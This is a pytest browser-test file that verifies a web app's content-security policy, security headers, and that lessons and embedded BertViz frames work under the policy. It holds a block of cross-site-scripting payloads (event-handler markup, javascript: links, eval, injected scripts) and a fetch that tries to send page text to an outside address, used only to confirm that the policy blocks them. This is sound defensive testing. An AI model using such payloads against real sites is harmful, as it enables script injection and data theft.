"""The content-security policy: tight, every page works under it, and what is typed cannot run."""

from __future__ import annotations

import http.client
import re
from urllib.parse import urlsplit

import numpy as np
import pytest
from playwright.sync_api import expect

from seqviz.content import catalog
from seqviz.core.i18n import Text
from seqviz.experiments.bertviz import page as bertviz_page
from seqviz.ui.server import policy
from tests.browser.lesson_page import watched
from tests.tiers import first_only

# What the policy forbade, in the page and in the frames that inherit its policy.
WATCH = """
addEventListener("securitypolicyviolation", (event) =>
  console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture
def visit(browser, server):
    """As in the browser tests: fails on a request to another host and on an error in the console.

    Chromium logs each violation of the policy as such an error.
    """

    def patient(*arguments, **options):
        lesson = open_page(*arguments, **options)
        lesson.page.context.set_default_timeout(60_000)  # the first visitor pays for the imports
        return lesson

    with watched(browser, server) as open_page:
        yield patient


def headers(server, path: str = "/") -> dict[str, str]:
    connection = http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=10)
    connection.request("GET", path)
    result = {name.lower(): value for name, value in connection.getresponse().getheaders()}
    connection.close()
    return result


def rules(server) -> dict[str, list[str]]:
    parts = headers(server)["content-security-policy"].split("; ")
    return {name: sources for name, *sources in map(str.split, parts)}


@pytest.mark.parametrize(
    "path",
    ["/", "/gates", "/_stcore/health", "/app/static/icon.svg", "/metrics", "/media/none.html"],
)
def test_response_carries_security_headers(server, path):
    result = headers(server, path)
    assert "script-src 'self'" in result["content-security-policy"]
    assert result["x-content-type-options"] == "nosniff"
    assert result["referrer-policy"] == "strict-origin"
    assert "camera=()" in result["permissions-policy"]


@pytest.mark.parametrize("path", ["/app/static/d3.min.js", "/app/static/components/slider.css"])
def test_static_file_sends_nosniff_without_policy(server, path):
    result = headers(server, path)
    assert result["x-content-type-options"] == "nosniff"
    assert "content-security-policy" not in result


def test_policy_allows_only_own_host_and_inline_styles(server):
    result = rules(server)
    for name, sources in result.items():
        for source in sources:
            own = re.fullmatch(r"'(self|none|sha256-[\w+/]+=*)'|blob:|data:", source)
            style = (name, source) == ("style-src", "'unsafe-inline'")
            frame = (name, source) == ("frame-ancestors", "*")
            assert own or style or frame, (name, source)
    assert result["default-src"] == result["script-src-attr"] == ["'none'"]
    assert not {"object-src", "frame-src", "worker-src"} & set(result)  # as by default


def test_referer_omits_page_query(visit):
    """In which a text can stand: a proxy's log has the Referer of every script and picture."""
    lesson = visit("text", {"lang": "en", "tx.cutters.text": "Zebrafinches"})
    payload: dict[str, str] = {}
    lesson.page.on(
        "request", lambda item: payload.update({item.url: item.headers.get("referer", "")})
    )
    lesson.page.reload()
    lesson.chart("tx.cutters").wait_for()
    lesson.whole()
    assert "Zebrafinches" in lesson.page.url
    assert len(payload) > 20
    assert any(payload.values())
    assert not [item for item, referer in payload.items() if "Zebra" in referer]


def look_through(lesson) -> None:
    """All tabs and benches of a page."""
    lesson.whole()
    page = lesson.page
    for tab in page.get_by_role("tab").all():
        tab.click()
        lesson.rest()
        for bench in page.locator("[class*=st-key-bench-]:visible").all():
            bench.scroll_into_view_if_needed()
    assert page.locator("[data-testid=stAlertContentError]").count() == 0


@pytest.mark.parametrize(
    "record",
    first_only([r for r in catalog.LESSONS if r.slug != "attention"], retained=0),
    ids=lambda record: record.slug,
)
def test_lesson_works_under_policy(visit, record):
    """All its tabs and benches; by day `tests/browser` asks for pages without an error."""
    lesson = visit(record.slug)
    if lesson.page.get_by_role("tab").count() == 0:
        lesson.chart(f"{record.code}.{record.first[0]}").wait_for()
    look_through(lesson)


@pytest.mark.nightly
def test_bertviz_draws_in_frame_that_inherits_policy(visit, minilm_on_disk):
    """Both of its views, and the rest of their lesson."""
    lesson = visit("attention", {"at.real.view": "head", "at.bertviz.picture": "head"})
    visible = lesson.by_key("bench-bertviz").locator("iframe")
    observed = set()
    for picture in bertviz_page.VIEWS:
        if picture != "head":
            name = Text("en")(f"attention.option.picture.{picture}")
            before = visible.get_attribute("srcdoc")
            lesson.by_key("at.bertviz.picture").get_by_text(name, exact=True).click()
            expect(visible).not_to_have_attribute("srcdoc", before, timeout=60_000)
        frame = visible.element_handle().content_frame()
        frame.locator("svg text").first.wait_for()
        assert frame.locator("svg text").count() > 5
        observed.add(frame.content())
    assert len(observed) == len(bertviz_page.VIEWS) == 2
    look_through(lesson)


def test_policy_contains_bertviz_script_digests():
    weights = np.full((2, 2, 3, 3), 1 / 3, np.float32)
    for view in bertviz_page.VIEWS:
        html = bertviz_page.page(view, weights, ("a", "b", "c")).html
        results = policy.inline_scripts(html)
        assert len(results) == (3 if view == "model" else 2)  # the data are in none of them
        assert {policy.digest(text) for text in results} <= set(
            re.findall(r"'sha256-[^']+'", policy.policy("*"))
        )


# Everything that a text which got into the page as markup could try; true if any of it ran.
INJECT = """async () => {
  window.hacked = false;
  // Until here the debugger, which may do anything, is at work; from here on it is the page.
  await new Promise((resolve) => setTimeout(resolve, 0));
  const place = document.createElement("div");
  place.innerHTML = `<img src="data:," onerror="window.hacked = true">
    <svg onload="window.hacked = true"></svg><a href="javascript:window.hacked = true">a</a>
    <iframe srcdoc="<script>parent.hacked = true</` + `script>"></iframe>`;
  document.body.append(place);
  place.querySelector("a").click();
  const script = document.createElement("script");
  script.textContent = "window.hacked = true";
  document.body.append(script);
  try { new Function("window.hacked = true")(); } catch {}
  try { eval("window.hacked = true"); } catch {}
  const other = document.createElement("script");
  other.src = "OTHER/app/static/hack.js";
  document.body.append(other);
  await new Promise((resolve) => setTimeout(resolve, 300));
  const ran = window.hacked;
  place.remove();
  return ran;
}"""


def test_policy_blocks_injected_markup_and_foreign_requests(browser, server):
    context = browser.new_context(locale="en-US")
    context.add_init_script(WATCH)
    page = context.new_page()
    messages = []
    page.on("console", lambda message: messages.append(message.text))
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(server.url)
    page.locator("h1").wait_for()
    assert page.evaluate(INJECT.replace("OTHER", "http://192.0.2.1")) is False
    payload = page.evaluate(
        """async () => {
            const told = await fetch("http://192.0.2.1/?text").then(() => "sent", () => "not sent");
            await new Promise((resolve) => setTimeout(resolve, 300));  // the report comes later
            return told;
        }"""
    )
    assert payload == "not sent"
    violated = {text.split()[1] for text in messages if text.startswith("policy: ")}
    assert {"script-src-attr", "script-src-elem", "script-src", "connect-src"} <= violated
    # Without the policy all of these run: the test can fail.
    bare = browser.new_context().new_page()
    bare.goto("about:blank")
    assert bare.evaluate(INJECT.replace("OTHER", "http://127.0.0.1:9")) is True
    assert not [url for url in requests if "192.0.2.1" in url and not blocked(messages, url)]
    context.close()


def blocked(messages: list[str], url: str) -> bool:
    """Whether the console says that this address was refused before anything was sent."""
    return any(text.startswith("policy: ") and url.split("?")[0] in text for text in messages)


def test_policy_sets_configured_frame_ancestors():
    assert policy.policy("'self' https://school.example").endswith(
        "frame-ancestors 'self' https://school.example"
    )
